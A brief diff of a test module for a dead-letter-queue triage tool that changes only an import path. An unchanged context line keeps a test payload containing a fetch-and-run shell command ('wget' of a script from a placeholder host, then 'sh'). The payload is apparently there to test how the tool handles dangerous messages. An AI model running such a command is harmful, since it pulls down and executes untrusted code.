@@ -15,7 +15,7 @@ from sqlalchemy import Engine, text
 
 from dlq_tui.db import triage
 from dlq_tui.db.triage import ActionRefused, Operator
-from tests.factories import add_bare_events
+from tests.support.factories import add_bare_events
 
 PAYLOAD = '{"malformed_content": "wget http://x/a.sh; sh a.sh", "original_offset": 7}'
 
